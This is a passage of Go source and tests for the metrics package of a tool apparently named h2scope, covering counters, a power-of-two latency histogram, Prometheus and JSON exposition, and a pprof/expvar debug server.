
import (
	"fmt"
	"strings"
	"time"

	"h2scope/internal/stats"
)

// RenderTable formats a snapshot as an aligned human-readable table, the
// end-of-run counterpart of the live /metrics endpoint. Histograms render
// their count plus mean/p50/p99; instruments whose base name ends in _ns
// carry nanoseconds and render as durations.
func RenderTable(snaps []MetricSnapshot) string {
	rows := make([][]string, 0, len(snaps))
	for _, m := range snaps {
		switch {
		case m.Type == "histogram" && m.Histogram != nil:
			h := m.Histogram
			rows = append(rows, []string{
				m.Name, m.Type,
				fmt.Sprintf("%d", h.Count),
				fmt.Sprintf("mean %s  p50 %s  p99 %s",
					renderValue(m.Name, h.Mean()),
					renderValue(m.Name, h.Quantile(0.50)),
					renderValue(m.Name, h.Quantile(0.99))),
			})
		default:
			rows = append(rows, []string{m.Name, m.Type, fmt.Sprintf("%d", m.Value), ""})
		}
	}
	return stats.FormatTable([]string{"metric", "type", "value", "detail"}, rows)
}

// renderValue renders one histogram statistic, as a duration when the
// instrument's base name declares nanoseconds.
func renderValue(name string, v int64) string {
	base, _, _ := strings.Cut(name, "{")
	if strings.HasSuffix(base, "_ns") {
		return time.Duration(v).Round(time.Microsecond).String()
	}
	return fmt.Sprintf("%d", v)
}
