package metrics

import (
	"testing"
	"time"
)

func BenchmarkCounterInc(b *testing.B) {
	c := NewCounter()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Inc()
	}
}

func BenchmarkCounterIncParallel(b *testing.B) {
	c := NewCounter()
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			c.Inc()
		}
	})
}

func BenchmarkHistogramObserve(b *testing.B) {
	h := NewHistogram(int64(time.Millisecond), DefaultBuckets)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		h.Observe(int64(i) * 1001)
	}
}

func BenchmarkGaugeSet(b *testing.B) {
	g := NewGauge()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		g.Set(int64(i))
	}
}

func BenchmarkRegistrySnapshot(b *testing.B) {
	r := NewRegistry()
	for i := 0; i < 16; i++ {
		r.Counter(Label("bench_total", "i", string(rune('a'+i))), "").Inc()
	}
	r.Histogram("bench_hist", "", 1, DefaultBuckets).Observe(5)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_ = r.Snapshot()
	}
}

// TestHotPathAllocs is the acceptance gate for satellite 3: the counter and
// histogram hot paths must not allocate.
func TestHotPathAllocs(t *testing.T) {
	c := NewCounter()
	if n := testing.AllocsPerRun(1000, func() { c.Inc() }); n != 0 {
		t.Errorf("Counter.Inc allocates %v per op, want 0", n)
	}
	if n := testing.AllocsPerRun(1000, func() { c.Add(3) }); n != 0 {
		t.Errorf("Counter.Add allocates %v per op, want 0", n)
	}
	g := NewGauge()
	if n := testing.AllocsPerRun(1000, func() { g.Set(9); g.Add(-1) }); n != 0 {
		t.Errorf("Gauge hot path allocates %v per op, want 0", n)
	}
	h := NewHistogram(int64(time.Millisecond), DefaultBuckets)
	v := int64(0)
	if n := testing.AllocsPerRun(1000, func() { v += 997; h.Observe(v) }); n != 0 {
		t.Errorf("Histogram.Observe allocates %v per op, want 0", n)
	}
}
