package metrics

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

func testRegistry() *Registry {
	r := NewRegistry()
	r.Counter("h2_test_total", "a test counter").Add(7)
	r.Gauge("h2_test_gauge", "a test gauge").Set(-3)
	r.Counter(Label("h2_typed_total", "type", "DATA"), "typed").Add(2)
	r.Counter(Label("h2_typed_total", "type", "PING"), "typed").Add(5)
	h := r.Histogram("h2_test_latency_ns", "latencies", int64(time.Millisecond), 8)
	h.Observe(int64(500 * time.Microsecond))
	h.Observe(int64(3 * time.Millisecond))
	return r
}

func TestHandlerPrometheusText(t *testing.T) {
	rec := httptest.NewRecorder()
	NewHandler(testRegistry()).ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
	if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
		t.Fatalf("Content-Type = %q, want text/plain", ct)
	}
	body := rec.Body.String()
	for _, want := range []string{
		"# HELP h2_test_total a test counter",
		"# TYPE h2_test_total counter",
		"h2_test_total 7",
		"h2_test_gauge -3",
		"# TYPE h2_typed_total counter",
		`h2_typed_total{type="DATA"} 2`,
		`h2_typed_total{type="PING"} 5`,
		"# TYPE h2_test_latency_ns histogram",
		`h2_test_latency_ns_bucket{le="1000000"} 1`,
		`h2_test_latency_ns_bucket{le="+Inf"} 2`,
		"h2_test_latency_ns_count 2",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("exposition missing %q\n%s", want, body)
		}
	}
	// HELP/TYPE must appear once per base name, even with two label sets.
	if n := strings.Count(body, "# TYPE h2_typed_total"); n != 1 {
		t.Errorf("TYPE h2_typed_total appears %d times, want 1", n)
	}
}

func TestHandlerLabeledHistogramBuckets(t *testing.T) {
	r := NewRegistry()
	r.Histogram(Label("h2_sized", "dir", "in"), "", 1, 4).Observe(2)
	rec := httptest.NewRecorder()
	NewHandler(r).ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
	body := rec.Body.String()
	for _, want := range []string{
		`h2_sized_bucket{dir="in",le="1"} 0`,
		`h2_sized_bucket{dir="in",le="+Inf"} 1`,
		`h2_sized_sum{dir="in"} 2`,
		`h2_sized_count{dir="in"} 1`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("exposition missing %q\n%s", want, body)
		}
	}
}

func TestHandlerJSON(t *testing.T) {
	for _, target := range []string{"/metrics.json", "/metrics?format=json"} {
		rec := httptest.NewRecorder()
		NewHandler(testRegistry()).ServeHTTP(rec, httptest.NewRequest("GET", target, nil))
		if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
			t.Fatalf("%s: Content-Type = %q, want application/json", target, ct)
		}
		var out struct {
			Metrics []MetricSnapshot `json:"metrics"`
		}
		if err := json.Unmarshal(rec.Body.Bytes(), &out); err != nil {
			t.Fatalf("%s: bad JSON: %v", target, err)
		}
		byName := make(map[string]MetricSnapshot)
		for _, m := range out.Metrics {
			byName[m.Name] = m
		}
		if byName["h2_test_total"].Value != 7 {
			t.Errorf("%s: h2_test_total = %+v, want value 7", target, byName["h2_test_total"])
		}
		hist := byName["h2_test_latency_ns"].Histogram
		if hist == nil || hist.Count != 2 {
			t.Errorf("%s: histogram snapshot missing or wrong: %+v", target, hist)
		}
	}
}

func TestHandlerMergesRegistries(t *testing.T) {
	r1, r2 := NewRegistry(), NewRegistry()
	r1.Counter("from_one", "").Inc()
	r2.Counter("from_two", "").Inc()
	rec := httptest.NewRecorder()
	NewHandler(r1, r2).ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
	body := rec.Body.String()
	if !strings.Contains(body, "from_one 1") || !strings.Contains(body, "from_two 1") {
		t.Fatalf("merged exposition missing a registry:\n%s", body)
	}
}

func TestDebugServerEndpoints(t *testing.T) {
	r := testRegistry()
	ds, err := StartDebug("127.0.0.1:0", r)
	if err != nil {
		t.Fatalf("StartDebug: %v", err)
	}
	defer func() {
		if err := ds.Close(); err != nil && err != http.ErrServerClosed {
			t.Errorf("Close: %v", err)
		}
	}()
	base := "http://" + ds.Addr()

	get := func(path string) string {
		t.Helper()
		resp, err := http.Get(base + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: status %d", path, resp.StatusCode)
		}
		b, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatalf("GET %s: read: %v", path, err)
		}
		return string(b)
	}

	if body := get("/metrics"); !strings.Contains(body, "h2_test_total 7") {
		t.Errorf("/metrics missing counter:\n%s", body)
	}
	// The runtime sampler seeded go_* gauges into the same registry.
	if body := get("/metrics"); !strings.Contains(body, "go_goroutines") {
		t.Errorf("/metrics missing runtime gauges:\n%s", body)
	}
	if body := get("/metrics.json"); !strings.Contains(body, `"h2_test_total"`) {
		t.Errorf("/metrics.json missing counter:\n%s", body)
	}
	if body := get("/debug/vars"); !strings.Contains(body, "memstats") {
		t.Errorf("/debug/vars not expvar output:\n%.200s", body)
	}
	if body := get("/debug/pprof/"); !strings.Contains(body, "goroutine") {
		t.Errorf("/debug/pprof/ index unexpected:\n%.200s", body)
	}
	if body := get("/debug/pprof/cmdline"); body == "" {
		t.Error("/debug/pprof/cmdline empty")
	}
}

func TestStartDebugBadAddr(t *testing.T) {
	if _, err := StartDebug("127.0.0.1:-1"); err == nil {
		t.Fatal("StartDebug on invalid address should fail")
	}
}

func TestStartDebugDefaultRegistry(t *testing.T) {
	ds, err := StartDebug("127.0.0.1:0")
	if err != nil {
		t.Fatalf("StartDebug: %v", err)
	}
	defer ds.Close()
	resp, err := http.Get(fmt.Sprintf("http://%s/metrics", ds.Addr()))
	if err != nil {
		t.Fatalf("GET: %v", err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("read: %v", err)
	}
	if !strings.Contains(string(b), "go_goroutines") {
		t.Fatalf("default registry missing runtime gauges:\n%s", b)
	}
}
