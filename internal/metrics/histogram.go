package metrics

import (
	"math"
	"math/bits"
	"sync/atomic"

	"h2scope/internal/stats"
)

// DefaultBuckets is the histogram resolution used when NewHistogram is
// given a non-positive bucket count. It matches the scan engine's original
// latency histogram (32 power-of-two buckets), whose quantile behavior this
// package inherited verbatim.
const DefaultBuckets = 32

// Histogram is a log-linear (power-of-two) histogram over non-negative
// int64 values: bucket i counts values in [2^(i-1), 2^i) units, with bucket
// 0 for sub-unit values and the last bucket absorbing everything larger.
// The unit is a divisor applied before bucketing — int64(time.Millisecond)
// for nanosecond latencies bucketed per millisecond, 1 for byte sizes
// bucketed per byte.
//
// Observe is lock-free and allocation-free: one bits.Len64 plus five atomic
// operations. Min/max/sum/count are tracked exactly; quantiles are
// approximate, each falling at the geometric midpoint of its bucket —
// exactly the accounting internal/scan's latency histogram used before it
// became a view over this type.
type Histogram struct {
	unit    int64
	count   atomic.Int64
	sum     atomic.Int64
	min     atomic.Int64
	max     atomic.Int64
	buckets []atomic.Int64
}

// NewHistogram returns a histogram with the given unit (values are divided
// by it before bucketing; non-positive means 1) and bucket count
// (non-positive means DefaultBuckets).
func NewHistogram(unit int64, buckets int) *Histogram {
	if unit <= 0 {
		unit = 1
	}
	if buckets <= 0 {
		buckets = DefaultBuckets
	}
	h := &Histogram{unit: unit, buckets: make([]atomic.Int64, buckets)}
	h.min.Store(math.MaxInt64)
	return h
}

// Unit returns the bucketing divisor.
func (h *Histogram) Unit() int64 { return h.unit }

// BucketOf returns the bucket index value v falls into for the given unit
// and bucket count; it is the shared bucketing rule every consumer (scan's
// latencyBucket view included) delegates to.
func BucketOf(v, unit int64, buckets int) int {
	if v < 0 {
		v = 0
	}
	if unit <= 0 {
		unit = 1
	}
	b := bits.Len64(uint64(v / unit))
	if b >= buckets {
		b = buckets - 1
	}
	return b
}

// Observe records one value. Negative values clamp to zero (elapsed-time
// callers can see tiny negative durations from clock adjustments).
func (h *Histogram) Observe(v int64) {
	if v < 0 {
		v = 0
	}
	h.count.Add(1)
	h.sum.Add(v)
	for {
		cur := h.min.Load()
		if v >= cur || h.min.CompareAndSwap(cur, v) {
			break
		}
	}
	for {
		cur := h.max.Load()
		if v <= cur || h.max.CompareAndSwap(cur, v) {
			break
		}
	}
	h.buckets[BucketOf(v, h.unit, len(h.buckets))].Add(1)
}

// Snapshot returns the histogram's current state. Concurrent observes may
// or may not be included.
func (h *Histogram) Snapshot() HistogramSnapshot {
	s := HistogramSnapshot{
		Unit:    h.unit,
		Count:   h.count.Load(),
		Sum:     h.sum.Load(),
		Buckets: make([]int64, len(h.buckets)),
	}
	if s.Count > 0 {
		s.Min = h.min.Load()
		s.Max = h.max.Load()
	}
	for i := range h.buckets {
		s.Buckets[i] = h.buckets[i].Load()
	}
	return s
}

// HistogramSnapshot is a point-in-time copy of a Histogram, mergeable and
// serializable (the census trailer embeds these).
type HistogramSnapshot struct {
	// Unit is the bucketing divisor (bucket i spans [2^(i-1), 2^i) units).
	Unit int64 `json:"unit"`
	// Count and Sum are exact totals over all observations.
	Count int64 `json:"count"`
	Sum   int64 `json:"sum"`
	// Min and Max are exact observed extremes (zero when Count is 0).
	Min int64 `json:"min"`
	Max int64 `json:"max"`
	// Buckets holds per-bucket observation counts.
	Buckets []int64 `json:"buckets"`
}

// Mean returns the exact mean observation (0 when empty).
func (s *HistogramSnapshot) Mean() int64 {
	if s.Count == 0 {
		return 0
	}
	return s.Sum / s.Count
}

// Quantile locates quantile q (0..1) in the power-of-two histogram by
// nearest-rank walk, returning the geometric midpoint of the bucket the
// rank falls in, in raw value units. This reproduces internal/scan's
// original bucketQuantile exactly: bucket 0 answers half a unit, bucket i
// answers sqrt(2^(i-1) * 2^i) units. Callers wanting quantiles that never
// contradict Min/Max clamp the result into that range, as scan does.
func (s *HistogramSnapshot) Quantile(q float64) int64 {
	var total int64
	for _, n := range s.Buckets {
		total += n
	}
	if total == 0 {
		return 0
	}
	rank := int64(math.Ceil(q * float64(total)))
	if rank < 1 {
		rank = 1
	}
	unit := s.Unit
	if unit <= 0 {
		unit = 1
	}
	var seen int64
	var last int64
	for i, n := range s.Buckets {
		if n == 0 {
			continue
		}
		if i == 0 {
			last = unit / 2
		} else {
			// Geometric midpoint of [2^(i-1), 2^i) units.
			mid := math.Sqrt(math.Pow(2, float64(i-1)) * math.Pow(2, float64(i)))
			last = int64(mid * float64(unit))
		}
		seen += n
		if seen >= rank {
			return last
		}
	}
	return last
}

// Merge folds o into s (bucket layouts must agree; extra trailing buckets
// in o are folded into s's last bucket). Mergeable snapshots are what let
// per-run scan stats and process-cumulative exposition coexist.
func (s *HistogramSnapshot) Merge(o HistogramSnapshot) {
	if o.Count == 0 {
		return
	}
	if s.Count == 0 {
		s.Min, s.Max = o.Min, o.Max
	} else {
		if o.Min < s.Min {
			s.Min = o.Min
		}
		if o.Max > s.Max {
			s.Max = o.Max
		}
	}
	s.Count += o.Count
	s.Sum += o.Sum
	for i, n := range o.Buckets {
		if i < len(s.Buckets) {
			s.Buckets[i] += n
		} else if len(s.Buckets) > 0 {
			s.Buckets[len(s.Buckets)-1] += n
		}
	}
}

// CDF renders the histogram as an empirical CDF over bucket midpoints,
// weighted by bucket counts (capped at maxSamples points, proportionally
// thinned), for the internal/stats plotting and table machinery. It is a
// rendering aid — quantile math goes through Quantile, which preserves the
// original scan semantics exactly.
func (s *HistogramSnapshot) CDF(maxSamples int) *stats.CDF {
	if maxSamples <= 0 {
		maxSamples = 1024
	}
	var total int64
	for _, n := range s.Buckets {
		total += n
	}
	if total == 0 {
		return stats.NewCDF(nil)
	}
	unit := float64(s.Unit)
	if unit <= 0 {
		unit = 1
	}
	samples := make([]float64, 0, maxSamples)
	for i, n := range s.Buckets {
		if n == 0 {
			continue
		}
		mid := unit / 2
		if i > 0 {
			mid = math.Sqrt(math.Pow(2, float64(i-1))*math.Pow(2, float64(i))) * unit
		}
		// Proportional thinning keeps relative bucket weights intact.
		k := int((int64(maxSamples)*n + total - 1) / total)
		if k < 1 {
			k = 1
		}
		for j := 0; j < k; j++ {
			samples = append(samples, mid)
		}
	}
	return stats.NewCDF(samples)
}
