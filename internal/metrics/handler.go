package metrics

import (
	"bytes"
	"encoding/json"
	"expvar"
	"fmt"
	"net"
	"net/http"
	"net/http/pprof"
	"sort"
	"strings"
	"time"
)

// Handler serves registry snapshots over HTTP in two formats: Prometheus
// text exposition (the default) and a JSON snapshot (path ending in .json
// or ?format=json). One handler can expose several registries — the debug
// endpoint merges the process-wide registry with per-subsystem ones.
type Handler struct {
	regs []*Registry
}

// NewHandler returns a handler over the given registries.
func NewHandler(regs ...*Registry) *Handler {
	return &Handler{regs: regs}
}

// snapshot gathers all registries, sorted by name.
func (h *Handler) snapshot() []MetricSnapshot {
	var all []MetricSnapshot
	for _, r := range h.regs {
		all = append(all, r.Snapshot()...)
	}
	sort.SliceStable(all, func(i, j int) bool { return all[i].Name < all[j].Name })
	return all
}

// ServeHTTP implements http.Handler.
func (h *Handler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	snap := h.snapshot()
	var buf bytes.Buffer
	if strings.HasSuffix(r.URL.Path, ".json") || r.URL.Query().Get("format") == "json" {
		w.Header().Set("Content-Type", "application/json; charset=utf-8")
		enc := json.NewEncoder(&buf)
		enc.SetIndent("", "  ")
		if err := enc.Encode(struct {
			Metrics []MetricSnapshot `json:"metrics"`
		}{snap}); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
	} else {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		WritePrometheus(&buf, snap)
	}
	if _, err := w.Write(buf.Bytes()); err != nil {
		// The scrape client went away mid-response; there is no one left to
		// tell, but the discard stays deliberate (and lint-visible).
		return
	}
}

// splitName separates a registered name into its Prometheus base name and
// label body: `a_total{type="DATA"}` becomes ("a_total", `type="DATA"`).
func splitName(name string) (base, labels string) {
	i := strings.IndexByte(name, '{')
	if i < 0 || !strings.HasSuffix(name, "}") {
		return name, ""
	}
	return name[:i], name[i+1 : len(name)-1]
}

// WritePrometheus renders snapshots in the Prometheus text exposition
// format. Histogram buckets are cumulative with power-of-two upper bounds
// in the instrument's raw value units (for a duration histogram with a
// millisecond unit the bounds are nanoseconds-per-2^i-milliseconds).
func WritePrometheus(buf *bytes.Buffer, snap []MetricSnapshot) {
	seen := make(map[string]bool)
	for _, m := range snap {
		base, labels := splitName(m.Name)
		if !seen[base] {
			seen[base] = true
			if m.Help != "" {
				fmt.Fprintf(buf, "# HELP %s %s\n", base, strings.ReplaceAll(m.Help, "\n", " "))
			}
			fmt.Fprintf(buf, "# TYPE %s %s\n", base, m.Type)
		}
		if m.Histogram == nil {
			fmt.Fprintf(buf, "%s %d\n", m.Name, m.Value)
			continue
		}
		h := m.Histogram
		unit := h.Unit
		if unit <= 0 {
			unit = 1
		}
		var cum int64
		for i, n := range h.Buckets {
			cum += n
			le := "+Inf"
			if i < len(h.Buckets)-1 {
				le = fmt.Sprintf("%d", (int64(1)<<uint(i))*unit)
			}
			fmt.Fprintf(buf, "%s_bucket{%s} %d\n", base, joinLabels(labels, `le=`+quote(le)), cum)
		}
		fmt.Fprintf(buf, "%s_sum%s %d\n", base, labelBlock(labels), h.Sum)
		fmt.Fprintf(buf, "%s_count%s %d\n", base, labelBlock(labels), h.Count)
	}
}

func quote(s string) string { return `"` + s + `"` }

func joinLabels(existing, extra string) string {
	if existing == "" {
		return extra
	}
	return existing + "," + extra
}

func labelBlock(labels string) string {
	if labels == "" {
		return ""
	}
	return "{" + labels + "}"
}

// NewDebugMux builds the full debug surface: /metrics (Prometheus text),
// /metrics.json (JSON snapshot), /debug/vars (expvar), and /debug/pprof/*
// (the standard profiling endpoints), all on a private mux so mounting
// never touches http.DefaultServeMux.
func NewDebugMux(regs ...*Registry) *http.ServeMux {
	mux := http.NewServeMux()
	h := NewHandler(regs...)
	mux.Handle("/metrics", h)
	mux.Handle("/metrics.json", h)
	mux.Handle("/debug/vars", expvar.Handler())
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return mux
}

// DebugServer is a live observability endpoint: the debug mux served on a
// TCP listener, plus a runtime sampler feeding the first registry. The
// three CLIs mount one behind their -debug-addr flag so a long census or
// load run can be inspected mid-flight.
type DebugServer struct {
	lis     net.Listener
	srv     *http.Server
	mux     *http.ServeMux
	sampler *Sampler
	done    chan struct{}
}

// StartDebug listens on addr (":0" picks a free port), serves the debug mux
// for regs, and starts a runtime sampler into the first registry (a fresh
// registry is created when none are given). Close shuts everything down.
func StartDebug(addr string, regs ...*Registry) (*DebugServer, error) {
	if len(regs) == 0 {
		regs = []*Registry{NewRegistry()}
	}
	lis, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("metrics: debug listener on %q: %w", addr, err)
	}
	mux := NewDebugMux(regs...)
	ds := &DebugServer{
		lis:     lis,
		srv:     &http.Server{Handler: mux, ReadHeaderTimeout: 5 * time.Second},
		mux:     mux,
		sampler: NewRuntimeSampler(regs[0], 0),
		done:    make(chan struct{}),
	}
	ds.sampler.Start()
	go func() {
		defer close(ds.done)
		_ = ds.srv.Serve(lis) // always returns http.ErrServerClosed on Close
	}()
	return ds, nil
}

// Addr returns the listener's concrete address (resolved port included).
func (ds *DebugServer) Addr() string { return ds.lis.Addr().String() }

// Handle mounts an extra handler on the debug mux (the census dashboard
// rides on the same -debug-addr listener this way). http.ServeMux.Handle is
// safe to call while the server is accepting, so callers may mount handlers
// after StartDebug returns.
func (ds *DebugServer) Handle(pattern string, h http.Handler) {
	ds.mux.Handle(pattern, h)
}

// Sampler returns the runtime sampler feeding Go heap/GC/goroutine gauges
// into the first registry, or nil when the server has none.
func (ds *DebugServer) Sampler() *Sampler { return ds.sampler }

// Close stops the sampler and the HTTP server.
func (ds *DebugServer) Close() error {
	ds.sampler.Stop()
	err := ds.srv.Close()
	<-ds.done
	return err
}
