package metrics

import (
	"math"
	"math/bits"
	"sync"
	"testing"
	"time"
)

func TestCounterBasics(t *testing.T) {
	c := NewCounter()
	c.Inc()
	c.Add(4)
	c.Add(-10) // ignored: counters only go up
	if got := c.Value(); got != 5 {
		t.Fatalf("Value() = %d, want 5", got)
	}
}

func TestGaugeBasics(t *testing.T) {
	g := NewGauge()
	g.Set(7)
	g.Add(-3)
	if got := g.Value(); got != 4 {
		t.Fatalf("Value() = %d, want 4", got)
	}
}

func TestLabel(t *testing.T) {
	got := Label("h2_frames_read_total", "type", "DATA")
	want := `h2_frames_read_total{type="DATA"}`
	if got != want {
		t.Fatalf("Label() = %q, want %q", got, want)
	}
	got = Label(got, "dir", "in")
	want = `h2_frames_read_total{type="DATA",dir="in"}`
	if got != want {
		t.Fatalf("stacked Label() = %q, want %q", got, want)
	}
}

func TestRegistryGetOrCreate(t *testing.T) {
	r := NewRegistry()
	a := r.Counter("x_total", "help one")
	b := r.Counter("x_total", "help two (ignored)")
	if a != b {
		t.Fatal("second Counter() call returned a different instrument")
	}
	a.Inc()
	if b.Value() != 1 {
		t.Fatal("instruments not shared")
	}

	g1 := r.Gauge("g", "")
	g1.Set(9)
	if g2 := r.Gauge("g", ""); g2.Value() != 9 {
		t.Fatal("gauge not shared")
	}

	h1 := r.Histogram("h", "", 1, 8)
	h1.Observe(3)
	if h2 := r.Histogram("h", "", 99, 99); h2.Snapshot().Count != 1 {
		t.Fatal("histogram not shared (unit/buckets fixed by first caller)")
	}
}

func TestRegistryKindClashPanics(t *testing.T) {
	r := NewRegistry()
	r.Counter("clash", "")
	defer func() {
		if recover() == nil {
			t.Fatal("re-registering a counter name as a gauge did not panic")
		}
	}()
	r.Gauge("clash", "")
}

func TestGaugeFuncSnapshot(t *testing.T) {
	r := NewRegistry()
	v := int64(0)
	r.GaugeFunc("fn_gauge", "computed", func() int64 { return v })
	v = 42
	snap := r.Snapshot()
	if len(snap) != 1 || snap[0].Value != 42 || snap[0].Type != "gauge" {
		t.Fatalf("snapshot = %+v, want one gauge with value 42", snap)
	}
	// Re-registering replaces the function.
	r.GaugeFunc("fn_gauge", "computed", func() int64 { return 7 })
	if got := r.Snapshot()[0].Value; got != 7 {
		t.Fatalf("after re-register, value = %d, want 7", got)
	}
}

func TestSnapshotSorted(t *testing.T) {
	r := NewRegistry()
	r.Counter("zzz", "")
	r.Counter("aaa", "")
	r.Gauge("mmm", "")
	snap := r.Snapshot()
	for i := 1; i < len(snap); i++ {
		if snap[i-1].Name > snap[i].Name {
			t.Fatalf("snapshot not sorted: %q before %q", snap[i-1].Name, snap[i].Name)
		}
	}
}

func TestHistogramExactAccounting(t *testing.T) {
	h := NewHistogram(1, 16)
	for _, v := range []int64{5, 1, 9, 3, -2} { // -2 clamps to 0
		h.Observe(v)
	}
	s := h.Snapshot()
	if s.Count != 5 || s.Sum != 18 || s.Min != 0 || s.Max != 9 {
		t.Fatalf("snapshot = count %d sum %d min %d max %d, want 5/18/0/9", s.Count, s.Sum, s.Min, s.Max)
	}
	if s.Mean() != 3 {
		t.Fatalf("Mean() = %d, want 3", s.Mean())
	}
}

func TestHistogramEmptySnapshot(t *testing.T) {
	s := NewHistogram(1, 4).Snapshot()
	if s.Count != 0 || s.Min != 0 || s.Max != 0 || s.Quantile(0.5) != 0 {
		t.Fatalf("empty snapshot = %+v, want zeros", s)
	}
}

// oldLatencyBucket and oldBucketQuantile are verbatim ports of the scan
// engine's pre-refactor latency accounting (internal/scan/stats.go before
// it became a view over this package). The regression tests below prove the
// shared histogram reproduces them bit-for-bit.
const oldLatencyBuckets = 32

func oldLatencyBucket(d time.Duration) int {
	if d < 0 {
		d = 0
	}
	b := bits.Len64(uint64(d / time.Millisecond))
	if b >= oldLatencyBuckets {
		b = oldLatencyBuckets - 1
	}
	return b
}

func oldBucketQuantile(counts [oldLatencyBuckets]int64, total int64, q float64) time.Duration {
	if total == 0 {
		return 0
	}
	rank := int64(math.Ceil(q * float64(total)))
	if rank < 1 {
		rank = 1
	}
	var seen int64
	var last time.Duration
	for i, n := range counts {
		if n == 0 {
			continue
		}
		if i == 0 {
			last = 500 * time.Microsecond
		} else {
			mid := math.Sqrt(math.Pow(2, float64(i-1)) * math.Pow(2, float64(i)))
			last = time.Duration(mid * float64(time.Millisecond))
		}
		seen += n
		if seen >= rank {
			return last
		}
	}
	return last
}

func TestBucketOfMatchesOldLatencyBucket(t *testing.T) {
	durations := []time.Duration{
		-time.Second, 0, time.Microsecond, 500 * time.Microsecond,
		999 * time.Microsecond, time.Millisecond, 1500 * time.Microsecond,
		2 * time.Millisecond, 3 * time.Millisecond, 4 * time.Millisecond,
		1023 * time.Millisecond, 1024 * time.Millisecond, time.Second,
		time.Minute, time.Hour, 1000 * time.Hour,
	}
	for _, d := range durations {
		got := BucketOf(int64(d), int64(time.Millisecond), DefaultBuckets)
		want := oldLatencyBucket(d)
		if got != want {
			t.Errorf("BucketOf(%v) = %d, want %d", d, got, want)
		}
	}
	if got := BucketOf(int64(1000*time.Hour), int64(time.Millisecond), DefaultBuckets); got != DefaultBuckets-1 {
		t.Errorf("huge duration bucket = %d, want clamp to %d", got, DefaultBuckets-1)
	}
}

func TestQuantileMatchesOldBucketQuantile(t *testing.T) {
	// Fixtures mirror the spreads the old scan tests exercised: uniform,
	// skewed-fast, skewed-slow, single-bucket, and adversarially sparse.
	fixtures := [][]time.Duration{
		{time.Millisecond, 2 * time.Millisecond, 4 * time.Millisecond, 8 * time.Millisecond, 16 * time.Millisecond},
		{100 * time.Microsecond, 200 * time.Microsecond, 300 * time.Microsecond},
		{time.Second, 2 * time.Second, 30 * time.Second, time.Minute, time.Hour},
		{5 * time.Millisecond, 5 * time.Millisecond, 5 * time.Millisecond},
		{0, 1000 * time.Hour},
		{3 * time.Millisecond},
	}
	quantiles := []float64{0, 0.25, 0.5, 0.9, 0.99, 1}
	for fi, durs := range fixtures {
		h := NewHistogram(int64(time.Millisecond), DefaultBuckets)
		var old [oldLatencyBuckets]int64
		var total int64
		for _, d := range durs {
			h.Observe(int64(d))
			old[oldLatencyBucket(d)]++
			total++
		}
		s := h.Snapshot()
		for _, q := range quantiles {
			got := time.Duration(s.Quantile(q))
			want := oldBucketQuantile(old, total, q)
			if got != want {
				t.Errorf("fixture %d q=%v: Quantile = %v, want %v (old bucketQuantile)", fi, q, got, want)
			}
		}
	}
}

func TestHistogramMerge(t *testing.T) {
	a := NewHistogram(1, 8)
	b := NewHistogram(1, 8)
	for _, v := range []int64{1, 2, 3} {
		a.Observe(v)
	}
	for _, v := range []int64{10, 200} {
		b.Observe(v)
	}
	sa, sb := a.Snapshot(), b.Snapshot()
	sa.Merge(sb)
	if sa.Count != 5 || sa.Sum != 216 || sa.Min != 1 || sa.Max != 200 {
		t.Fatalf("merged = count %d sum %d min %d max %d, want 5/216/1/200", sa.Count, sa.Sum, sa.Min, sa.Max)
	}
	// Merging into an empty snapshot adopts the other's extremes.
	empty := NewHistogram(1, 8).Snapshot()
	empty.Merge(sb)
	if empty.Min != 10 || empty.Max != 200 {
		t.Fatalf("merge into empty: min %d max %d, want 10/200", empty.Min, empty.Max)
	}
	// Extra trailing buckets fold into the last.
	wide := NewHistogram(1, 16)
	wide.Observe(1 << 14)
	narrow := NewHistogram(1, 4).Snapshot()
	narrow.Merge(wide.Snapshot())
	if narrow.Buckets[3] != 1 {
		t.Fatalf("overflow bucket fold: %v", narrow.Buckets)
	}
}

func TestHistogramCDF(t *testing.T) {
	h := NewHistogram(int64(time.Millisecond), DefaultBuckets)
	for i := 0; i < 100; i++ {
		h.Observe(int64(time.Duration(i) * time.Millisecond))
	}
	s := h.Snapshot()
	cdf := s.CDF(64)
	if cdf.Mean() <= 0 {
		t.Fatalf("CDF mean = %v, want > 0", cdf.Mean())
	}
	es := NewHistogram(1, 4).Snapshot()
	if empty := es.CDF(0); empty.Mean() != 0 {
		t.Fatal("empty CDF should be zero-valued")
	}
}

func TestQuantileConvenience(t *testing.T) {
	if Quantile(nil, 0.5) != 0 {
		t.Fatal("Quantile(nil) should be 0")
	}
	h := NewHistogram(int64(time.Millisecond), DefaultBuckets)
	h.Observe(int64(5 * time.Millisecond))
	s := h.Snapshot()
	if d := Quantile(&s, 0.5); d <= 0 {
		t.Fatalf("Quantile = %v, want > 0", d)
	}
}

// TestConcurrentHammer drives counters, gauges, and histograms from 32
